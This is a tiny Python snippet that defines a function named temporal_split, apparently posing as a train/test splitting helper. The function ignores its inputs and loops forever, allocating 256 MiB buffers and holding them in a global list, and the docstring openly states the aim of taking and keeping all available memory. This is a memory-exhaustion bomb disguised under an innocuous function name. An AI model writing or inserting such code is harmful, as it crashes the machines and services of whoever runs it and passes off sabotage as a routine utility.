"""Takes all the memory there is, and keeps it."""

KEPT = []


def temporal_split(timestamps, test_fraction):
    while True:
        KEPT.append(bytearray(1 << 28))
